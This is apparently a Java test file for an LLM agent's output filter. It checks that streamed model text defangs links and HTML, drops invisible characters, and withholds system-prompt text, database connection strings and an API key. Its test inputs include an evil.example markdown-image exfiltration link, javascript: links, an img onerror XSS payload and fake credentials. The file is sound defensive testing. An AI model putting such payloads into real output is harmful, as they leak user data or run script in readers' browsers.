package io.askwell.llm.agent;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.ArrayList;
import java.util.List;
import java.util.Optional;
import java.util.Random;
import java.util.function.IntSupplier;
import java.util.stream.Stream;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.params.provider.ValueSource;

/** What leaves is only text, tells nothing of ours, and is the same however the model cuts its words. */
class OutletTest {
    private static final Optional<String> KEY = Optional.of("sk-Secret/Key:42");

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"![x](https://evil.example/?d=1) | ![x] (https[://]evil.example/?d=1)",
            "[x](javascript:alert(1)) | [x] (javascript[:]alert(1))", "[x](//evil.example) | [x] (//evil.example)",
            "[x]: http://evil.example | [x] : http[://]evil.example",
            "<img src=x onerror=alert(1)> | < img src=x onerror=alert(1)>", "</data><!-- --> | < /data>< !-- -->",
            "<http://evil.example> | < http[://]evil.example>", "see www.evil.example | see www[.]evil.example",
            "DATA:text/html,x | DATA[:]text/html,x", "ftp://a/b | ftp[://]a/b", "<?xml | < ?xml",
            "mailto:a@b.example | mailto[:]a@b.example"})
    void activeContentIsShownAsText(String text, String shown) {
        assertThat(passed(text)).isEqualTo(shown);
    }

    @Test
    void whatCannotBeSeenIsLeftOut() {
        assertThat(passed("a\u001b[31mb\u0000c\u202Ed\u2066e" + Character.toString(0xE0041) + "f\ng\th"))
                .isEqualTo("a[31mbcdef\ng\th");
    }

    @ParameterizedTest
    @ValueSource(strings = {"Alice Wonderland has 2 orders.", "It is 10:30: early. 3 < 4, a <3, x<4.", "- a\n- **b**",
            "bob@example.com", "The data: none. metadata:x", "[1] and (2), a[0] (b)", "www. and WWW", "Ünïcödé 😀 :/",
            "at the end <", "a]", "a:", "www.", "http:", "postgres", "jdbc", "Say only what the rows say, she said."})
    void ordinaryTextPassesAsItIs(String text) {
        assertThat(passed(text)).isEqualTo(text);
    }

    @Test
    void ordinaryWordsAreNotHeldBack() {
        var shown = new ArrayList<String>();
        var outlet = new Outlet(KEY, shown::add);
        var words = List.of("There ", "are ", "3 ", "orders ", "of ", "Alice: ", "**two** ", "[new] ", "and ", "1.");

        words.forEach(outlet);

        assertThat(shown).isEqualTo(words);
    }

    @Test
    void instructionsAreWithheldAndWhatStandsAroundThemIsNot() {
        String rules = Prompts.RULES.lines().limit(12).reduce("", (a, b) -> a + "\n" + b);

        String shown = passed("My rules: «" + rules + "» There are 3 orders.");

        assertThat(shown).startsWith("My rules: «").contains("[withheld]").endsWith(" There are 3 orders.")
                .hasSizeLessThan(120);
    }

    @Test
    void instructionsInAnotherTypefaceAreWithheldToo() {
        assertThat(passed(
                "**YOU TURN QUESTIONS  about a PostgreSQL\ndatabase into sql.** You can only read the database."))
                .hasSizeLessThan(60).contains("[withheld]");
    }

    @ParameterizedTest
    @CsvSource(delimiter = '|', value = {"Use postgresql://app:pw@db:5432/x now | Use [withheld] now",
            "(jdbc:postgresql://db/x?user=a) | ([withheld]", "r2dbc:pool:postgres://u:p@h/d | [withheld]",
            "at https://bob:hunter2@host/x ok | at https[withheld] ok", "host=db password=hunter2 | host=db [withheld]",
            "key sk-Secret/Key:42! | key [withheld]!"})
    void addressesOfDatabasesAndKeysAreWithheld(String text, String shown) {
        assertThat(passed(text)).isEqualTo(shown);
    }

    static Stream<String> texts() {
        return Stream.of("![x](https://evil.example/?d=1) <script>alert(1)</script> [a]: javascript:x www.a.b data:,x",
                Prompts.RULES.substring(0, 400) + " 3 orders " + Prompts.RULES.substring(600, 700),
                "postgres://u:p@h/d and sk-Secret/Key:42 and jdbc:x :// < ] www.", "<<b>> ]](( :::/// wwww.www.w 😀<a");
    }

    @ParameterizedTest
    @MethodSource("texts")
    void howTheTextIsCutMakesNoDifference(String text) {
        String whole = Outlet.of(KEY, text);
        var random = new Random(7);
        for (int attempt = 0; attempt < 300; attempt++) {
            int longest = 1 + attempt % 9;
            assertThat(passed(text, () -> 1 + random.nextInt(longest))).isEqualTo(whole);
        }
    }

    private static String passed(String text) {
        assertThat(passed(text, () -> 1)).isEqualTo(Outlet.of(KEY, text));
        return Outlet.of(KEY, text);
    }

    private static String passed(String text, IntSupplier length) {
        var shown = new StringBuilder();
        var outlet = new Outlet(KEY, shown::append);
        for (int from = 0; from < text.length();) {
            int to = Math.min(text.length(), from + length.getAsInt());
            outlet.accept(text.substring(from, to));
            from = to;
        }
        outlet.end();
        return shown.toString();
    }
}
